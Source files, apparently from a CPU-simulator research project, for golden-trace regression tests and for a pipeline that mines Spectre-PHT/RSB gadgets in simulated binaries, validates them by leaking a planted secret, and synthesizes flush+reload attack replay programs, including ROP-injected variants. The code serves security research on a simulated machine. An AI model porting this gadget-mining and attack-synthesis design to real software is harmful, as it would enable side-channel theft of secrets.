  sim::Kernel kernel(machine);
  workloads::WorkloadOptions opt;
  opt.scale = 4000;
  kernel.register_binary("/bin/w", workloads::build_workload("bitcount", opt));
  hid::ProfilerConfig pcfg;
  pcfg.window_cycles = 5'000;
  const auto result =
      hid::profile_run_strings(kernel, "/bin/w", {"bitcount", "input"}, pcfg);
  return core::windows_to_csv(result.windows);
}

std::string scenario_csv(bool injected) {
  core::ScenarioConfig sc;
  sc.host = "basicmath";
  sc.host_scale = 3000;
  sc.rop_injected = injected;
  if (injected) {
    sc.perturb = true;
    sc.perturb_params.delay = 500;
    sc.perturb_params.loop_count = 10;
  }
  sc.seed = kGoldenSeed;
  sc.profiler.window_cycles = 5'000;
  return core::windows_to_csv(core::run_scenario(sc).profile.windows);
}

std::vector<std::string> split_lines(const std::string& text) {
  std::vector<std::string> out;
  std::size_t pos = 0;
  while (pos < text.size()) {
    const auto eol = text.find('\n', pos);
    if (eol == std::string::npos) {
      out.push_back(text.substr(pos));
      break;
    }
    out.push_back(text.substr(pos, eol - pos));
    pos = eol + 1;
  }
  return out;
}

std::vector<std::string> split_fields(const std::string& line) {
  std::vector<std::string> out;
  std::size_t pos = 0;
  for (;;) {
    const auto comma = line.find(',', pos);
    if (comma == std::string::npos) {
      out.push_back(line.substr(pos));
      return out;
    }
    out.push_back(line.substr(pos, comma - pos));
    pos = comma + 1;
  }
}

}  // namespace

const std::vector<std::string>& golden_scenario_names() {
  static const std::vector<std::string> kNames = {"benign", "spectre",
                                                  "crspectre"};
  return kNames;
}

std::string golden_csv(const std::string& name) {
  if (name == "benign") return benign_csv();
  if (name == "spectre") return scenario_csv(/*injected=*/false);
  if (name == "crspectre") return scenario_csv(/*injected=*/true);
  throw Error("unknown golden scenario '" + name + "'");
}

std::string diff_csv(const std::string& name, const std::string& golden,
                     const std::string& live) {
  if (golden == live) return {};

  const auto glines = split_lines(golden);
  const auto llines = split_lines(live);
  std::ostringstream out;
  out << "golden-trace mismatch for scenario '" << name << "':\n";
  if (glines.empty() || llines.empty()) {
    out << "  golden has " << glines.size() << " line(s), live has "
        << llines.size() << "\n";
    return out.str();
  }

  const auto header = split_fields(glines[0]);
  if (glines[0] != llines[0]) {
    out << "  header changed:\n    golden: " << glines[0]
        << "\n    live:   " << llines[0] << "\n";
    return out.str();
  }
  if (glines.size() != llines.size()) {
    out << "  row count: golden " << glines.size() - 1 << ", live "
        << llines.size() - 1 << " (window count changed)\n";
  }

  int reported = 0;
  const auto rows = std::min(glines.size(), llines.size());
  for (std::size_t r = 1; r < rows && reported < 5; ++r) {
    if (glines[r] == llines[r]) continue;
    const auto gf = split_fields(glines[r]);
    const auto lf = split_fields(llines[r]);
    out << "  row " << r << ":";
    if (gf.size() != lf.size()) {
      out << " field count " << gf.size() << " vs " << lf.size() << "\n";
      ++reported;
      continue;
    }
    int cols = 0;
    for (std::size_t c = 0; c < gf.size() && cols < 4; ++c) {
      if (gf[c] == lf[c]) continue;
      const auto col = c < header.size() ? header[c] : std::to_string(c);
      out << " [" << col << "] golden=" << gf[c] << " live=" << lf[c];
      ++cols;
    }
    out << "\n";
    ++reported;
  }
  out << "  (regenerate intentionally changed goldens with `crs_fuzz "
         "--update-golden`)\n";
  return out.str();
}

std::string read_text_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw Error("cannot read '" + path + "'");
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

}  // namespace crs::fuzz
