// Golden-trace regression layer: canonical small-scale scenario runs whose
// windowed HPC CSVs are checked into tests/golden/ and diffed against live
// runs. An intentional behaviour change regenerates the files
// (`crs_fuzz --update-golden` or `trace_export --update-golden`) and shows
// up in review as a file diff instead of silent drift.
#pragma once

#include <string>
#include <vector>

namespace crs::fuzz {

/// Canonical scenario names, in a stable order: "benign", "spectre",
/// "crspectre".
const std::vector<std::string>& golden_scenario_names();

/// Runs the canonical scenario deterministically and returns its window CSV
/// (core::windows_to_csv format). Throws crs::Error for unknown names.
std::string golden_csv(const std::string& name);

/// Readable row/column-level diff between two window CSVs; "" when equal.
/// `name` labels the scenario in the report.
std::string diff_csv(const std::string& name, const std::string& golden,
                     const std::string& live);

/// Reads a whole file; throws crs::Error on I/O failure.
std::string read_text_file(const std::string& path);

}  // namespace crs::fuzz
