// Internal helpers shared by the dynamic validator and the scenario
// synthesizer: an affine symbolic value domain over the mined window
// (value = anchor + base*B + val*V + addend, where B is the attacker
// register's seed and V the transiently loaded secret value), plus the
// source-text scanner that maps a .text byte offset back to its statement
// line so a label can be planted at the trigger.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "isa/isa.hpp"
#include "mine/mine.hpp"
#include "sim/program.hpp"

namespace crs::mine::detail {

/// Affine symbolic value. `anchor` indexes a caller-defined base symbol
/// (an embedded image segment or the canonical scratch buffer); -1 = none.
/// Arithmetic mirrors Cpu::alu_result on the representable subset and
/// degrades to unknown elsewhere — mispredictions are caught downstream by
/// dynamic validation / the synthesized program's self-check.
struct SymVal {
  bool known = false;
  int anchor = -1;
  std::int64_t base = 0;  ///< coefficient of B (attacker seed)
  std::int64_t val = 0;   ///< coefficient of V (transient secret value)
  std::int64_t add = 0;

  static SymVal unknown() { return {}; }
  static SymVal constant(std::int64_t c) { return {true, -1, 0, 0, c}; }
  static SymVal attacker() { return {true, -1, 1, 0, 0}; }
  static SymVal secret_value() { return {true, -1, 0, 1, 0}; }
  static SymVal anchored(int a, std::int64_t off) {
    return {true, a, 0, 0, off};
  }
  bool pure_const() const {
    return known && anchor < 0 && base == 0 && val == 0;
  }
  bool operator==(const SymVal&) const = default;
};

using SymRegs = std::array<SymVal, isa::kNumRegisters>;

/// a + sign*b in the affine domain (sign is +1 or -1); anchors only combine
/// when at most one side carries one (or they cancel under subtraction).
SymVal sym_add(const SymVal& a, const SymVal& b, int sign);

/// k * a; anchored values only scale by 1.
SymVal sym_scale(const SymVal& a, std::int64_t k);

/// ALU transfer function (OpClass::kAlu only). Folds what the affine domain
/// can represent; anything else (bitwise/shift/div on symbolic inputs,
/// compares on symbolic inputs) returns unknown.
SymVal sym_alu(const isa::Instruction& in, const SymRegs& regs);

/// Little-endian read of `width` in {1,8} bytes from the linked image;
/// nullopt when [addr, addr+width) is not fully inside one segment.
std::optional<std::uint64_t> read_image(const sim::Program& program,
                                        std::uint64_t addr, int width);

/// Decodes the aligned 8-byte slot at `pc` from the linked image.
std::optional<isa::Instruction> decode_at(const sim::Program& program,
                                          std::uint64_t pc);

/// True when [addr, addr+width) lies inside a mapped segment.
bool in_image(const sim::Program& program, std::uint64_t addr, int width);

std::vector<std::string> split_lines(const std::string& source);

/// Replays the assembler's .text layout over `lines` (comments stripped,
/// labels skipped, directive sizes mirrored) and returns the index of the
/// line whose statement starts at byte offset `text_off` from the start of
/// .text, or -1 when no statement starts exactly there. Lines must not use
/// `.org` (the caller strips `.org`/`.entry` before embedding).
int find_text_statement(const std::vector<std::string>& lines,
                        std::uint64_t text_off);

/// Source lines with `.org`/`.entry` directives removed, ready to embed
/// behind a driver that owns the entry point.
std::vector<std::string> strip_layout_directives(const std::string& source);

/// `.ascii`-safe escaping of arbitrary bytes.
std::string escape_ascii(const std::string& s);

/// Rich validation entry point used by the mining pipeline (the public
/// validate_candidate wraps it).
struct ValidateOutcome {
  Validation validation = Validation::kNone;
  int leaked_byte = -1;
  std::string reject;  ///< why the candidate was rejected (diagnostics)
};

ValidateOutcome validate_window(const std::string& source,
                                const WindowCandidate& candidate,
                                const MineOptions& options);

/// The 16-byte secret planted by the validation driver.
extern const char kValidationSecret[17];

}  // namespace crs::mine::detail
