// Speculation-aware gadget mining (Teapot-style, PAPERS.md).
//
// The classic `rop/` scanner harvests ret-terminated chains; it knows
// nothing about *speculation*. This library finds the gadgets the paper's
// dynamic attack actually needs: windows of straight-line code that, when
// reached transiently (a mistrained conditional branch or a mispredicted
// return), carry an attacker-controlled value into a transient load whose
// result feeds a second, cache-visible load — a Spectre transmitter.
//
// Pipeline per binary:
//   1. classify_program — static pass over the decoded image (DecodeCache on
//      a scratch Memory, so DEP and fence hints behave exactly as the CPU
//      front end sees them). A cond-taint pre-pass marks branches whose
//      condition an attacker register reaches; candidate windows are both
//      sides of those branches (Spectre-PHT) and every post-call
//      continuation (Spectre-RSB). A bounded taint walk down each window
//      looks for attacker-reg -> transient load -> dependent load within the
//      speculation window.
//   2. validate_candidate — dynamic ground truth. The original source is
//      re-assembled behind a generated driver that mistrains the predictor
//      (PHT update / RSB push), plants a secret, points the attacker
//      register at it, and fires the trigger once; the candidate survives
//      only if the secret-dependent probe line is actually cache-resident
//      afterwards (kLeak when the value is recoverable, kPerturb when the
//      transient window observably disturbed the cache without being
//      byte-recoverable).
//   3. synthesize_attack_source — for eligible gadgets, emit a standalone
//      flush+reload replay program around the *verbatim mined body* (movi
//      address immediates re-anchored onto embedded copies of the victim
//      image). The synthesized program is self-checked by running it against
//      a planted secret before it is declared scenario-eligible.
//
// mine_source memoizes the whole per-binary pipeline in a process-wide
// support::MemoCache; mine_corpus fans binaries out on the thread pool and
// folds reports by index, so the mined set is byte-identical for any
// CRS_THREADS and with memoization on or off.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/scenario.hpp"
#include "sim/program.hpp"

namespace crs::mine {

/// How the transient window opens.
enum class TriggerKind : std::uint8_t {
  kCondBranch,  ///< mistrained conditional branch (Spectre-PHT)
  kPostCall,    ///< return misprediction into the post-call slot (RSB)
};

/// Final gadget label. A post-call window upgrades from kRsb to kCrSpectre
/// when the binary's classic ROP pool can also steer the attacker register
/// and reach a syscall — i.e. the window is drivable by the paper's
/// code-reuse injection, not just by an in-process mistrain.
enum class GadgetClass : std::uint8_t { kPht, kRsb, kCrSpectre };

enum class Validation : std::uint8_t {
  kNone,     ///< did not validate dynamically (never appears in mined sets)
  kLeak,     ///< secret byte recoverable from the probe-line residency
  kPerturb,  ///< probe set observably disturbed, value not discriminable
};

std::string trigger_kind_name(TriggerKind k);
std::string gadget_class_name(GadgetClass c);
std::string validation_name(Validation v);

struct MineOptions {
  /// Registers modelled as attacker-controlled at every basic-block entry
  /// (the argv-derived data registers of generated programs).
  std::vector<int> attacker_regs = {1, 2, 3};
  /// Maximum transient window length walked, in instructions. Kept under
  /// the CPU's max_spec_window (64) so a classified transmit can actually
  /// execute before the squash.
  int max_window = 40;
  std::uint64_t link_base = 0x10000;
  /// Branches carrying a fence-pass speculation-barrier hint never open a
  /// window (mirrors CpuConfig::honor_fence_hints).
  bool honor_fence_hints = true;
  /// Dynamically validate candidates; mined sets keep only survivors.
  bool validate = true;
  /// PHT mistraining repetitions before the trigger fires.
  int train_iterations = 4;
  /// Deterministic per-binary candidate cap (address order).
  std::size_t max_candidates = 64;

  bool operator==(const MineOptions&) const = default;
};

/// One classified candidate window, in the original image's link-time
/// address space.
struct WindowCandidate {
  TriggerKind trigger = TriggerKind::kCondBranch;
  std::uint64_t trigger_addr = 0;  ///< branch pc, or the call pc for kPostCall
  /// kCondBranch only: window is the branch's taken side (else fall-through).
  bool window_taken = false;
  std::uint64_t window_addr = 0;  ///< first transient instruction
  int window_len = 0;             ///< instructions up to and incl. transmit
  int cond_reg = -1;              ///< branch condition register (kCondBranch)
  int attacker_reg = -1;          ///< which attacker register reaches the load
  std::uint64_t load_addr = 0;    ///< attacker-controlled transient load pc
  std::uint64_t xmit_addr = 0;    ///< cache-visible dependent load pc
  int load_width = 1;             ///< 1 = loadb, 8 = load
};

struct MinedGadget {
  WindowCandidate window;
  GadgetClass cls = GadgetClass::kPht;
  Validation validation = Validation::kNone;
  int leaked_byte = -1;  ///< planted secret byte recovered during validation
  /// A standalone replay program exists and passed its self-check.
  bool scenario_eligible = false;
  /// Synthesized replay source (see wrap_attack_standalone); empty when not
  /// scenario-eligible.
  std::string attack_source;
};

struct BinaryReport {
  std::string name;
  std::size_t candidates = 0;  ///< classifier candidates considered
  std::size_t rejected = 0;    ///< candidates that failed validation
  std::vector<MinedGadget> gadgets;
  std::string error;  ///< non-empty when the binary failed to process
};

struct CorpusOptions {
  MineOptions mine;
  /// Number of fuzz-generated programs (seeded, gadget-biased).
  std::size_t generated = 0;
  std::uint64_t seed = 2026;
  /// Percent chance per generated block to splice a Spectre-shaped snippet
  /// (fuzz::GeneratorOptions::gadget_bias).
  int gadget_bias = 60;
  /// Explicit (name, source) binaries mined in addition to the generated
  /// ones (corpus directories, golden seeds).
  std::vector<std::pair<std::string, std::string>> sources;
};

struct CorpusReport {
  std::vector<BinaryReport> binaries;
  // Fold of the per-binary counters.
  std::size_t candidates = 0;
  std::size_t rejected = 0;
  std::size_t gadgets = 0;
  std::size_t leaks = 0;
  std::size_t perturbs = 0;
  std::size_t scenarios = 0;  ///< scenario-eligible gadgets
};

/// Static classifier only (no simulation). `program` must be linked at
/// options.link_base.
std::vector<WindowCandidate> classify_program(const sim::Program& program,
                                              const MineOptions& options = {});

/// Dynamic validation of one candidate against the original source text
/// (the text is re-assembled behind a generated mistrain driver).
Validation validate_candidate(const std::string& source,
                              const WindowCandidate& candidate,
                              const MineOptions& options = {});

/// Standalone replay-program synthesis; empty when the gadget is not
/// expressible as a safe architectural program (see DESIGN.md §13).
/// The returned source references `mine_secret_base`/`mine_secret_len`,
/// provided by wrap_attack_standalone or by the scenario layer.
std::string synthesize_attack_source(const std::string& source,
                                     const WindowCandidate& candidate,
                                     const MineOptions& options = {});

/// Completes a synthesized source into a runnable standalone program by
/// defining `mine_secret_len` and embedding `secret` at `mine_secret_base`.
/// core::ScenarioSession applies the injected-mode equivalent (numeric
/// `.equ mine_secret_base` against the host's resolved secret address).
std::string wrap_attack_standalone(const std::string& attack_source,
                                   const std::string& secret);

/// Full per-binary pipeline: assemble source + runtime, classify, validate,
/// classify-upgrade via the classic ROP pool, synthesize. Memoized
/// process-wide on (name, source, options).
BinaryReport mine_source(const std::string& name, const std::string& source,
                         const MineOptions& options = {});

/// Mines generated + explicit binaries on the thread pool. Deterministic:
/// byte-identical reports for any CRS_THREADS and with memoized recon on or
/// off.
CorpusReport mine_corpus(const CorpusOptions& options);

/// One row per mined gadget:
/// binary,class,trigger,trigger_addr,window,window_addr,window_len,
/// attacker_reg,load_addr,xmit_addr,load_width,validation,leaked_byte,
/// scenario
std::string corpus_csv(const CorpusReport& report);

/// JSON object with per-binary gadget arrays and the fold totals.
std::string corpus_json(const CorpusReport& report);

/// A core scenario replaying gadget `g`: standalone (the synthesized
/// program runs directly) or ROP-injected into the default host (the
/// injected binary reads the host secret through the mined window).
core::ScenarioConfig mined_scenario(const MinedGadget& g,
                                    const std::string& secret, bool injected);

/// Hit/miss counters of the per-binary recon memo cache.
struct MineMemoStats {
  std::uint64_t hits = 0;
  std::uint64_t misses = 0;
};
MineMemoStats mine_memo_stats();

}  // namespace crs::mine
