// Static speculation-aware classification (stage 1 of the mining pipeline).
//
// The image is loaded into a scratch sim::Memory and decoded through the same
// DecodeCache the CPU front end uses, so DEP (non-executable pages decode to
// nothing) and fence-pass hints (DecodedSlot::fence_after) behave here exactly
// as they do at simulation time, including for images a fence pass has
// rewritten in place.
#include <algorithm>
#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "mine/mine.hpp"
#include "sim/decode_cache.hpp"
#include "sim/memory.hpp"

namespace crs::mine {
namespace {

using isa::Opcode;
using isa::OpClass;

constexpr std::uint64_t kSlot = 8;

std::uint64_t image_top(const sim::Program& program) {
  std::uint64_t top = 0;
  for (const auto& seg : program.segments) {
    top = std::max(top, seg.addr + seg.bytes.size());
  }
  return top;
}

/// Loads the program image into a right-sized Memory with its link-time
/// permissions, mirroring what the kernel loader does.
sim::Memory load_image(const sim::Program& program) {
  const std::uint64_t top =
      (image_top(program) + sim::Memory::kPageSize) &
      ~(sim::Memory::kPageSize - 1);
  sim::Memory memory(top + sim::Memory::kPageSize);
  for (const auto& seg : program.segments) {
    if (!seg.bytes.empty()) memory.write_bytes(seg.addr, seg.bytes);
    memory.set_permissions(seg.addr, seg.bytes.size(), seg.perm);
  }
  return memory;
}

/// Three-level taint lattice used by the window walk.
enum class Taint : std::uint8_t { kClean = 0, kAttacker = 1, kSecret = 2 };

Taint max_taint(Taint a, Taint b) { return a > b ? a : b; }

/// Taint of the register operands an instruction reads (via the same
/// reads_rs1/reads_rs2 classification the dispatch loop uses).
Taint read_taint(const sim::DecodedSlot& slot,
                 const std::array<Taint, isa::kNumRegisters>& taint) {
  Taint t = Taint::kClean;
  if (slot.reads_rs1) t = max_taint(t, taint[slot.instr.rs1]);
  if (slot.reads_rs2) t = max_taint(t, taint[slot.instr.rs2]);
  return t;
}

bool is_window_terminator(const sim::DecodedSlot& slot) {
  switch (slot.cls) {
    case OpClass::kCondBranch:
    case OpClass::kJump:
    case OpClass::kIndirectJump:
    case OpClass::kCall:
    case OpClass::kIndirectCall:
    case OpClass::kRet:
    case OpClass::kFence:
    case OpClass::kSyscall:
    case OpClass::kHalt:
      return true;
    default:
      return false;
  }
}

struct WindowHit {
  int window_len = 0;
  std::uint64_t load_addr = 0;
  std::uint64_t xmit_addr = 0;
  int load_width = 1;
};

/// Walks the straight-line window at `start` with `attacker_reg` tainted,
/// looking for attacker-deref -> secret-deref within max_window instructions
/// (the transmit itself ends the window). Mirrors run_wrong_path's budget:
/// every decoded slot costs one instruction.
std::optional<WindowHit> walk_window(sim::DecodeCache& cache,
                                     std::uint64_t start, int attacker_reg,
                                     const MineOptions& opt) {
  std::array<Taint, isa::kNumRegisters> taint{};
  taint[attacker_reg] = Taint::kAttacker;
  WindowHit hit;
  bool have_load = false;
  for (int i = 0; i < opt.max_window; ++i) {
    const std::uint64_t pc = start + static_cast<std::uint64_t>(i) * kSlot;
    const sim::DecodedSlot* slot = cache.lookup(pc);
    if (slot == nullptr || slot->state != sim::DecodedSlot::kValid) {
      return std::nullopt;  // DEP or illegal encoding ends the window
    }
    if (is_window_terminator(*slot)) return std::nullopt;
    const isa::Instruction& in = slot->instr;
    switch (slot->cls) {
      case OpClass::kLoad: {
        const Taint ptr = taint[in.rs1];
        if (ptr == Taint::kSecret && have_load) {
          hit.window_len = i + 1;
          hit.xmit_addr = pc;
          return hit;
        }
        if (ptr == Taint::kAttacker) {
          if (!have_load) {
            have_load = true;
            hit.load_addr = pc;
            hit.load_width = in.op == Opcode::kLoadB ? 1 : 8;
          }
          taint[in.rd] = Taint::kSecret;
        } else {
          taint[in.rd] = Taint::kClean;
        }
        break;
      }
      case OpClass::kAlu:
        taint[in.rd] = in.op == Opcode::kMovImm
                           ? Taint::kClean
                           : read_taint(*slot, taint);
        break;
      case OpClass::kPop:
      case OpClass::kRdCycle:
        taint[in.rd] = Taint::kClean;
        break;
      case OpClass::kStore:  // memory taint is not tracked
      case OpClass::kPush:
      case OpClass::kFlush:
      case OpClass::kNop:
        break;
      default:
        return std::nullopt;
    }
  }
  return std::nullopt;
}

/// True when `addr` decodes to a valid instruction (and is thus a plausible
/// transient entry point).
bool decodes_at(sim::DecodeCache& cache, std::uint64_t addr) {
  if (addr % kSlot != 0) return false;
  const sim::DecodedSlot* slot = cache.lookup(addr);
  return slot != nullptr && slot->state == sim::DecodedSlot::kValid;
}

}  // namespace

std::vector<WindowCandidate> classify_program(const sim::Program& program,
                                              const MineOptions& options) {
  sim::Memory memory = load_image(program);
  sim::DecodeCache cache(memory);
  std::vector<WindowCandidate> out;

  // Candidate trigger sites, gathered in address order.
  struct Site {
    TriggerKind trigger;
    std::uint64_t trigger_addr;
    bool taken;
    std::uint64_t window_addr;
    int cond_reg;
  };
  std::vector<Site> sites;

  for (const auto& seg : program.segments) {
    if ((seg.perm & sim::kPermExec) == 0) continue;
    // Cond-taint pre-pass: walk the segment's straight-line runs keeping a
    // one-bit attacker taint per register. Runs restart (attacker registers
    // re-tainted) at the segment start and after every control-flow or
    // illegal slot — any run start is a potential entry reached with
    // attacker-controlled argument registers live.
    std::array<bool, isa::kNumRegisters> atk{};
    auto reset_run = [&] {
      atk.fill(false);
      for (int r : options.attacker_regs) {
        if (r >= 0 && r < isa::kNumRegisters) atk[r] = true;
      }
    };
    auto reads_attacker = [&](const sim::DecodedSlot& slot) {
      return (slot.reads_rs1 && atk[slot.instr.rs1]) ||
             (slot.reads_rs2 && atk[slot.instr.rs2]);
    };
    reset_run();
    const std::uint64_t end = seg.addr + seg.bytes.size();
    for (std::uint64_t pc = seg.addr; pc + kSlot <= end; pc += kSlot) {
      const sim::DecodedSlot* slot = cache.lookup(pc);
      if (slot == nullptr || slot->state != sim::DecodedSlot::kValid) {
        reset_run();
        continue;
      }
      const isa::Instruction& in = slot->instr;
      switch (slot->cls) {
        case OpClass::kCondBranch: {
          const bool fenced = options.honor_fence_hints && slot->fence_after;
          if (atk[in.rs1] && !fenced) {
            const std::uint64_t taken = static_cast<std::uint32_t>(in.imm);
            if (decodes_at(cache, taken)) {
              sites.push_back(
                  {TriggerKind::kCondBranch, pc, true, taken, in.rs1});
            }
            if (decodes_at(cache, pc + kSlot)) {
              sites.push_back(
                  {TriggerKind::kCondBranch, pc, false, pc + kSlot, in.rs1});
            }
          }
          reset_run();
          break;
        }
        case OpClass::kCall:
        case OpClass::kIndirectCall:
          // The RSB predicts the post-call slot; a mispredicted return
          // elsewhere leaves this continuation as a transient window.
          if (decodes_at(cache, pc + kSlot)) {
            sites.push_back(
                {TriggerKind::kPostCall, pc, false, pc + kSlot, -1});
          }
          reset_run();
          break;
        case OpClass::kJump:
        case OpClass::kIndirectJump:
        case OpClass::kRet:
        case OpClass::kSyscall:
        case OpClass::kHalt:
          reset_run();
          break;
        case OpClass::kLoad:
        case OpClass::kPop:
        case OpClass::kRdCycle:
          atk[in.rd] = false;  // loaded values are victim data, not input
          break;
        case OpClass::kAlu:
          atk[in.rd] = in.op != Opcode::kMovImm && reads_attacker(*slot);
          break;
        case OpClass::kStore:
        case OpClass::kPush:
        case OpClass::kFlush:
        case OpClass::kFence:
        case OpClass::kNop:
          break;
        default:
          reset_run();
          break;
      }
    }
  }

  for (const Site& site : sites) {
    if (out.size() >= options.max_candidates) break;
    for (int reg : options.attacker_regs) {
      auto hit = walk_window(cache, site.window_addr, reg, options);
      if (!hit) continue;
      WindowCandidate c;
      c.trigger = site.trigger;
      c.trigger_addr = site.trigger_addr;
      c.window_taken = site.taken;
      c.window_addr = site.window_addr;
      c.window_len = hit->window_len;
      c.cond_reg = site.cond_reg;
      c.attacker_reg = reg;
      c.load_addr = hit->load_addr;
      c.xmit_addr = hit->xmit_addr;
      c.load_width = hit->load_width;
      out.push_back(c);
      break;  // first attacker register to transmit wins, deterministically
    }
  }
  return out;
}

std::string trigger_kind_name(TriggerKind k) {
  switch (k) {
    case TriggerKind::kCondBranch:
      return "cond-branch";
    case TriggerKind::kPostCall:
      return "post-call";
  }
  return "?";
}

std::string gadget_class_name(GadgetClass c) {
  switch (c) {
    case GadgetClass::kPht:
      return "spectre-pht";
    case GadgetClass::kRsb:
      return "spectre-rsb";
    case GadgetClass::kCrSpectre:
      return "cr-spectre";
  }
  return "?";
}

std::string validation_name(Validation v) {
  switch (v) {
    case Validation::kNone:
      return "none";
    case Validation::kLeak:
      return "leak";
    case Validation::kPerturb:
      return "perturb";
  }
  return "?";
}

}  // namespace crs::mine
