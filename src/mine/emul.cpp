#include "mine/emul.hpp"

#include <cctype>
#include <cstdlib>
#include <string_view>

namespace crs::mine::detail {

using isa::Opcode;

const char kValidationSecret[17] = "MINED-SECRET-KEY";

SymVal sym_add(const SymVal& a, const SymVal& b, int sign) {
  if (!a.known || !b.known) return SymVal::unknown();
  SymVal r;
  r.known = true;
  if (a.anchor >= 0 && b.anchor >= 0) {
    // Two anchors only cancel under subtraction of the same anchor.
    if (sign < 0 && a.anchor == b.anchor) {
      r.anchor = -1;
    } else {
      return SymVal::unknown();
    }
  } else {
    r.anchor = a.anchor >= 0 ? a.anchor : b.anchor;
    if (sign < 0 && b.anchor >= 0) return SymVal::unknown();
  }
  r.base = a.base + sign * b.base;
  r.val = a.val + sign * b.val;
  r.add = a.add + sign * b.add;
  return r;
}

SymVal sym_scale(const SymVal& a, std::int64_t k) {
  if (!a.known) return SymVal::unknown();
  if (k == 0) return SymVal::constant(0);
  if (k == 1) return a;
  if (a.anchor >= 0) return SymVal::unknown();  // k * anchor is not affine
  SymVal r = a;
  r.base *= k;
  r.val *= k;
  r.add *= k;
  return r;
}

namespace {
std::int64_t shift_amount(std::uint64_t raw) { return raw & 63; }
}  // namespace

SymVal sym_alu(const isa::Instruction& in, const SymRegs& regs) {
  const SymVal& a = regs[in.rs1];
  const SymVal& b = regs[in.rs2];
  const auto imm64 =
      static_cast<std::uint64_t>(static_cast<std::int64_t>(in.imm));
  switch (in.op) {
    case Opcode::kMovImm:
      return SymVal::constant(static_cast<std::int64_t>(in.imm));
    case Opcode::kMov:
      return a;
    case Opcode::kAdd:
      return sym_add(a, b, +1);
    case Opcode::kSub:
      return sym_add(a, b, -1);
    case Opcode::kAddImm:
      return sym_add(a, SymVal::constant(static_cast<std::int64_t>(in.imm)),
                     +1);
    case Opcode::kMul:
      if (b.pure_const()) return sym_scale(a, b.add);
      if (a.pure_const()) return sym_scale(b, a.add);
      return SymVal::unknown();
    case Opcode::kMulImm:
      return sym_scale(a, static_cast<std::int64_t>(in.imm));
    case Opcode::kShlImm:
      return sym_scale(a, std::int64_t{1} << shift_amount(imm64));
    case Opcode::kShl:
      if (b.pure_const()) {
        return sym_scale(
            a, std::int64_t{1}
                   << shift_amount(static_cast<std::uint64_t>(b.add)));
      }
      return SymVal::unknown();
    default:
      break;
  }
  // Everything below folds only on pure constants, mirroring
  // Cpu::alu_result bit for bit (registers are uint64 two's complement).
  const auto ua = static_cast<std::uint64_t>(a.add);
  const auto ub = static_cast<std::uint64_t>(b.add);
  auto c = [](std::uint64_t v) {
    return SymVal::constant(static_cast<std::int64_t>(v));
  };
  switch (in.op) {
    case Opcode::kDivu:
      if (a.pure_const() && b.pure_const()) {
        return c(ub == 0 ? ~0ull : ua / ub);
      }
      return SymVal::unknown();
    case Opcode::kRemu:
      if (a.pure_const() && b.pure_const()) return c(ub == 0 ? ua : ua % ub);
      return SymVal::unknown();
    case Opcode::kAnd:
      if (a.pure_const() && b.pure_const()) return c(ua & ub);
      return SymVal::unknown();
    case Opcode::kOr:
      if (a.pure_const() && b.pure_const()) return c(ua | ub);
      return SymVal::unknown();
    case Opcode::kXor:
      if (a.pure_const() && b.pure_const()) return c(ua ^ ub);
      return SymVal::unknown();
    case Opcode::kShr:
      if (a.pure_const() && b.pure_const()) {
        return c(ua >> shift_amount(ub));
      }
      return SymVal::unknown();
    case Opcode::kSar:
      if (a.pure_const() && b.pure_const()) {
        return c(static_cast<std::uint64_t>(static_cast<std::int64_t>(ua) >>
                                            shift_amount(ub)));
      }
      return SymVal::unknown();
    case Opcode::kAndImm:
      if (a.pure_const()) return c(ua & imm64);
      return SymVal::unknown();
    case Opcode::kOrImm:
      if (a.pure_const()) return c(ua | imm64);
      return SymVal::unknown();
    case Opcode::kXorImm:
      if (a.pure_const()) return c(ua ^ imm64);
      return SymVal::unknown();
    case Opcode::kShrImm:
      if (a.pure_const()) return c(ua >> shift_amount(imm64));
      return SymVal::unknown();
    case Opcode::kCmpLt:
      if (a.pure_const() && b.pure_const()) {
        return c(static_cast<std::int64_t>(ua) < static_cast<std::int64_t>(ub)
                     ? 1
                     : 0);
      }
      return SymVal::unknown();
    case Opcode::kCmpLtu:
      if (a.pure_const() && b.pure_const()) return c(ua < ub ? 1 : 0);
      return SymVal::unknown();
    case Opcode::kCmpEq:
      if (a.pure_const() && b.pure_const()) return c(ua == ub ? 1 : 0);
      return SymVal::unknown();
    case Opcode::kCmpNe:
      if (a.pure_const() && b.pure_const()) return c(ua != ub ? 1 : 0);
      return SymVal::unknown();
    default:
      return SymVal::unknown();
  }
}

std::optional<std::uint64_t> read_image(const sim::Program& program,
                                        std::uint64_t addr, int width) {
  for (const auto& seg : program.segments) {
    if (addr >= seg.addr && addr + width <= seg.addr + seg.bytes.size()) {
      std::uint64_t v = 0;
      for (int i = width - 1; i >= 0; --i) {
        v = (v << 8) | seg.bytes[addr - seg.addr + i];
      }
      return v;
    }
  }
  return std::nullopt;
}

std::optional<isa::Instruction> decode_at(const sim::Program& program,
                                          std::uint64_t pc) {
  std::array<std::uint8_t, isa::kInstructionSize> raw{};
  for (int i = 0; i < static_cast<int>(raw.size()); ++i) {
    auto b = read_image(program, pc + i, 1);
    if (!b) return std::nullopt;
    raw[i] = static_cast<std::uint8_t>(*b);
  }
  return isa::decode(raw);
}

bool in_image(const sim::Program& program, std::uint64_t addr, int width) {
  for (const auto& seg : program.segments) {
    if (addr >= seg.addr && addr + width <= seg.addr + seg.bytes.size()) {
      return true;
    }
  }
  return false;
}

std::vector<std::string> split_lines(const std::string& source) {
  std::vector<std::string> lines;
  std::size_t pos = 0;
  while (pos <= source.size()) {
    const std::size_t nl = source.find('\n', pos);
    if (nl == std::string::npos) {
      lines.push_back(source.substr(pos));
      break;
    }
    lines.push_back(source.substr(pos, nl - pos));
    pos = nl + 1;
  }
  return lines;
}

namespace {

std::string strip_comment_and_trim(std::string_view line) {
  bool in_string = false;
  std::size_t end = line.size();
  for (std::size_t i = 0; i < line.size(); ++i) {
    const char c = line[i];
    if (c == '"' && (i == 0 || line[i - 1] != '\\')) in_string = !in_string;
    if (!in_string && (c == ';' || c == '#')) {
      end = i;
      break;
    }
  }
  std::string_view s = line.substr(0, end);
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.front()))) {
    s.remove_prefix(1);
  }
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back()))) {
    s.remove_suffix(1);
  }
  return std::string(s);
}

